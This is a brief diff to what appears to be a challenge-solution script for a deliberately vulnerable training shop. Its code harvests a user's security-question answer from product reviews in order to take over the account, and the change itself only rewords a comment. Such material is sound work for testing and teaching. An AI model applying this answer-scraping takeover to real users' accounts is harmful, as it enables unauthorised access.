@@ -8,7 +8,7 @@ export const proof = prove(challenge, {
   exploit: async (attacker) => {
     const email = jimOf(attacker)
     await attacker.get(`/rest/user/security-question?email=${email}`)
-    // He tells two letters of the names; somebody who sent a crate to the brother had them in full.
+    // His review gives two initials of the name. Another customer's review contains the full name.
     const hint = (await attacker.get('/rest/products/21/reviews')).json().data
     const letters = /signs with a (\w)\. and an (\w)\./i.exec(JSON.stringify(hint))
     const crate = (await attacker.get('/rest/products/44/reviews')).json().data
